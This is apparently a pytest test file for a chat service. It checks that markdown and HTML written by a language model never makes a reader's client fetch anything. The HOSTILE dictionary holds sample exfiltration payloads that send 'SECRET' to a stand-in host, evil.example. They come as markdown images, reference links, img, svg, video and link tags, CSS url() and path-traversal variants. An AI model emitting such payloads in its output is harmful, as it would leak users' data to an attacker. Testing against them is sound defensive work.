"""What a model was made to write must never make a reader's client fetch anything."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from chats import PUBLIC, Chats, drawn
from providers import Provider, finish, sse, text

SECRET = "https://evil.example/?q=SECRET"
HOSTILE = {
    "S21 inline": f"![x]({SECRET})",
    "S21 in a link": f"[![x]({SECRET})](https://fine.example)",
    "S21 angle brackets": f"![x](<{SECRET}>)",
    "S22 by reference": f"![x][r]\n\n[r]: {SECRET}",
    "S22 collapsed": f"![r][]\n\n[r]: {SECRET}",
    "S22 shortcut": f"![r]\n\n[r]: {SECRET}",
    "S23 img": f'<img src="{SECRET}">',
    "S23 mixed case": f'<ImG SrC="{SECRET}">',
    "S23 picture": f'<picture><source srcset="{SECRET}"></picture>',
    "S23 style": f'<p style="background:url({SECRET})">x</p>',
    "S23 svg": f'<svg><image href="{SECRET}"/></svg>',
    "S23 video": f'<video poster="{SECRET}"></video>',
    "S23 link": f'<link rel="prefetch" href="{SECRET}">',
    "S24 our own origin": f"![x]({PUBLIC}/images/abc?q=SECRET)",
    "S24 a path of ours": f"![x]({PUBLIC}/images/../../x?q=SECRET)",
}


def fetches(markdown: str) -> list[str]:
    """What a renderer that lets HTML through would fetch by itself."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(markdown)
    found = []
    for token in tokens:
        for each in [token, *(token.children or [])]:
            if each.type == "image":
                found.append(str(each.attrs["src"]))
            elif each.type in ("html_block", "html_inline"):
                found.append(each.content)
    return found


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_that_a_model_wrote_is_fetched(chats: Chats, provider: Provider, words: str) -> None:
    """S21 to S24, whole and streamed, cut after every seventh character."""
    provider.chat_script(lambda body: f"Before. {words} After.")
    told, answer = chats.stream("Say"), chats.ask("Say")
    content = answer["choices"][0]["message"]["content"]
    assert told.content == content
    assert fetches(content) == []
    assert "Before." in content
    assert "After." in content
    assert told.images == []


@pytest.mark.parametrize("cut", [1, 2, 3, 5])
def test_nothing_is_fetched_however_the_words_are_cut(chats: Chats, provider: Provider, cut: int) -> None:
    """S21: the parts of what is cut are as harmless as the whole."""
    words = "".join(f"{each}\n\n" for each in HOSTILE.values())
    provider.chat(sse(*(text(words[at : at + cut]) for at in range(0, len(words), cut)), finish()))
    told = chats.stream("Say")
    assert fetches(told.content) == []


def test_our_own_pictures_are_all_that_is_fetched(chats: Chats, provider: Provider) -> None:
    """S24: byte by byte the links that we minted for this answer."""
    provider.chat_script(drawn("![fox]({0}) ![x](https://evil.example/?u={0}) ![y]({0}?q=SECRET)", "a fox"))
    told = chats.stream("Draw")
    assert fetches(told.content) == told.images
    assert chats.picture(told.images[0]).status_code == 200
